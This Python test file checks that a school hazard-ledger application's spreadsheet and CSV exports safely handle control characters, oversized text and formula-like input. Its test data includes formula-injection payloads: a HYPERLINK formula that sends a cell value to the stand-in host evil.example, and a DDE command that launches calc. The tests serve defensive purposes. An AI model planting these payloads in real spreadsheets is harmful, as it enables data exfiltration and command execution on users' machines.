"""Every spreadsheet the product produces writes any text the ledger holds, on SQLite and a real
PostgreSQL: the leadership's hazard ledger download and the shift handover download (through the
real app, zh and en), and `python -m ledger export` of both lists as .xlsx and .csv (as an
operator runs it). The ledger holds every C0 control character the database keeps, DEL, C1
controls, formula-like text of every kind (ASCII, TAB, CR, full-width) and 200 k characters, in
every text column a file shows. Each file must download (no 500), open again with openpyxl or the
csv module, hold no formula anywhere, mark every formula-like cell as text, and show the text
readable: each control as its picture, a long text cut at Excel's limit saying so."""
from __future__ import annotations

import csv
import io
import zipfile
from datetime import date, timedelta, timezone
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook

from dashboard.app import create_app
from ledger import spreadsheet as sp
from ledger.commands import alerts, hazards
from ledger.commands.risk_points import save_risk_point
from ledger.grading import GradingRules
from ledger.models import Building, OrgUnit, RiskPoint
from ledger.models.hazard import HazardComment
from ledger.shifts import DEFAULT_SHIFTS, ShiftPlan
from tests.dashboard.conftest import client_with, issue_token
from tests.ledger.cli_runner import run_ledger

SCHOOL = "t-school"
TZ = ZoneInfo("Asia/Shanghai")
NIGHT = ShiftPlan.load(DEFAULT_SHIFTS).shift_window(date(2026, 3, 1), "night", TZ)
HANDOVER = f"/api/v1/schools/{SCHOOL}/handover?date=2026-03-01&shift=night&format=xlsx"
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "=cmd|' /C calc'!A0", "+SUM(1,2)", "-2+3",
            "@SUM(1)", "\t=1+1", "\r=1+1", "＝1+1", "＋SUM(1)", "－1", "＠SUM(1)"]
HUGE = "长" * 200_000
XML_FORBIDDEN = {chr(c) for c in range(0x20)} - set("\t\n\r") | {chr(c) for c in range(0xD800, 0xE000)}


def controls(dialect: str) -> str:
    """Every C0 control and DEL; PostgreSQL's text refuses NUL, so it is in the ledger on SQLite only."""
    every = "".join(chr(c) for c in range(0x20)) + "\x7f"
    return every.replace("\x00", "") if dialect == "postgresql" else every


def at(minutes: float):
    return (NIGHT.start + timedelta(minutes=minutes)).astimezone(timezone.utc)


@pytest.fixture
def texts(session) -> dict[str, str]:
    """A school whose ledger holds hostile text in every column a spreadsheet shows; the texts by role."""
    c0 = controls(session.bind.dialect.name)
    t = {"controls": c0, "ansi": "标题\x1b[31m红\x1b[0m", "bell": "已通知\x07请复查", "c1": "控制\x85\x9b字符",
         "huge": HUGE, "line": "第一行\n第二行"}
    school = OrgUnit(code=SCHOOL, kind="school", name_zh="测试学校")
    session.add(school)
    session.flush()
    session.add(Building(school_id=school.id, code="b1", name_zh="实验楼\x1b", polygon=None))
    session.flush()
    first = hazards.report_hazard(
        session, school=school, code="H-1", title=c0, found_at=at(10), by=t["ansi"], building_code="b1",
        description=HUGE, measures=t["bell"], emergency_measures=t["c1"], responsible_person="=1+1",
        note=t["line"], grade="major")
    first.recheck_result, first.supervised_by = c0, "@督办"
    hazards.transition_hazard(session, hazard=first, action="notify", by=FORMULAS[1], at=at(20), note=c0)
    hazards.report_hazard(session, school=school, code="H-2", title=t["bell"], found_at=at(25), note=HUGE)
    for n, formula in enumerate(FORMULAS):
        hazards.report_hazard(session, school=school, code=f"F-{n}", title=formula, found_at=at(30 + n),
                              by=formula[:64], description=formula, note=formula)
    # Written to the table as a row from before comments were cleaned, or another path, would be.
    # (Not beginning with NUL: SQLite's length() stops at a NUL, and the table checks the length.)
    for n, text in enumerate((t["bell"], "意见" + c0, *FORMULAS)):
        session.add(HazardComment(hazard_id=first.id, by=text[:64], at=at(100 + n), text=text))
    alert, _ = alerts.raise_alert(session, school=school, event_id=FORMULAS[0][:128], type="fire.smoke_alarm",
                                  domain="environment", severity="critical", raised_at=at(200), device=c0,
                                  building=t["ansi"], zone=None, detail=None, window=timedelta(minutes=10))
    alerts.transition_alert(session, alert=alert, action="acknowledge", by=c0, at=at(201))
    alerts.transition_alert(session, alert=alert, action="dispatch", by="=2", at=at(202),
                            assignee=FORMULAS[2])
    point = RiskPoint(school_id=school.id, code="=RP-1", name=c0, control_measures=HUGE, responsible_person="@人",
                      method="LS", l_value=3, s_value=4, control_level="unit", accident_types=["火灾"],
                      identified_on=date(2026, 1, 1), last_reviewed_on=date(2026, 1, 1))
    save_risk_point(session, point, hazard_sources=[t["bell"], "-源"], rules=GradingRules())
    session.commit()
    return t


@pytest.fixture
def leader(settings_factory, redis_client, ledger_settings, engine):
    app = create_app(settings_factory(database_url=ledger_settings.database_url))
    return client_with(app, issue_token(ledger_settings, role="leader"))


def xlsx_texts(data: bytes) -> list[str]:
    """Every text cell of every sheet, after checking what makes the file safe to open."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                xml = archive.read(name)
                assert b"<f>" not in xml and b"<f " not in xml, name  # no formula anywhere
    found = []
    for sheet in load_workbook(io.BytesIO(data)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    assert cell.data_type == "s" and len(cell.value) <= sp.MAX_CELL_CHARS
                    assert not set(cell.value) & XML_FORBIDDEN
                    assert cell.quotePrefix or not sp.formula_like(cell.value), cell.value
                    found.append(cell.value)
    return found


def csv_texts(data: bytes) -> list[str]:
    assert data.startswith("\ufeff".encode())
    found = []
    for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")):
        for value in row:
            assert not sp.formula_like(value), value  # the export's apostrophe is in front
            assert not set(value) & XML_FORBIDDEN and len(value) <= sp.MAX_CELL_CHARS + 1
            found.append(value[1:] if value.startswith("'") and sp.formula_like(value[1:]) else value)
    return found


def shown(text: str, fmt: str) -> str:
    """What a file of `fmt` shows for a text the ledger holds."""
    return sp.xlsx_text(text) if fmt == "xlsx" else sp.cell_text(text)


def _expect(found: list[str], fmt: str, *wanted: str) -> None:
    for text in wanted:
        assert shown(text, fmt) in found, repr(text[:40])


def test_the_hazard_ledger_download_writes_any_text(leader, texts):
    for lang in ("zh", "en"):
        response = leader.get(f"/lead/hazards.xlsx?school={SCHOOL}&lang={lang}")
        assert response.status_code == 200, response.get_data(as_text=True)[:300]
        found = xlsx_texts(response.data)
        _expect(found, "xlsx", texts["controls"], HUGE, texts["bell"], texts["c1"], "=1+1", "@督办",
                *FORMULAS)
        cut = next(value for value in found if value.startswith("长" * 1000))
        assert len(cut) == sp.MAX_CELL_CHARS and cut.endswith("〔已截断：全文200000字〕")
        assert "实验楼␛" in found


def test_the_handover_download_writes_any_text(leader, texts):
    for lang in ("zh", "en"):
        response = leader.get(HANDOVER + f"&lang={lang}")
        assert response.status_code == 200, response.get_data(as_text=True)[:300]
        found = xlsx_texts(response.data)
        _expect(found, "xlsx", texts["controls"], texts["bell"], texts["line"], HUGE, texts["ansi"],
                *FORMULAS)
        assert "已通知␇请复查" in found and "标题␛[31m红␛[0m" in found


def _cli_export(ledger_settings, tmp_path, listed: str, fmt: str) -> bytes:
    out = tmp_path / f"{listed}.{fmt}"
    done = run_ledger(ledger_settings.database_url, "export", listed, "--school", SCHOOL, "--format", fmt,
                      "--out", str(out))
    assert done.returncode == 0 and not done.stderr, done.stderr
    return out.read_bytes()


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_the_command_line_export_writes_any_text_and_no_formula(ledger_settings, texts, tmp_path, fmt):
    read = xlsx_texts if fmt == "xlsx" else csv_texts
    found = read(_cli_export(ledger_settings, tmp_path, "hazards", fmt))
    _expect(found, fmt, texts["controls"], HUGE, texts["bell"], texts["c1"], "=1+1", "@督办", *FORMULAS)
    found = read(_cli_export(ledger_settings, tmp_path, "risk-points", fmt))
    _expect(found, fmt, "=RP-1", texts["controls"], HUGE, "@人")
    assert any(value.startswith(shown(texts["bell"], fmt)) and "-源" in value for value in found)
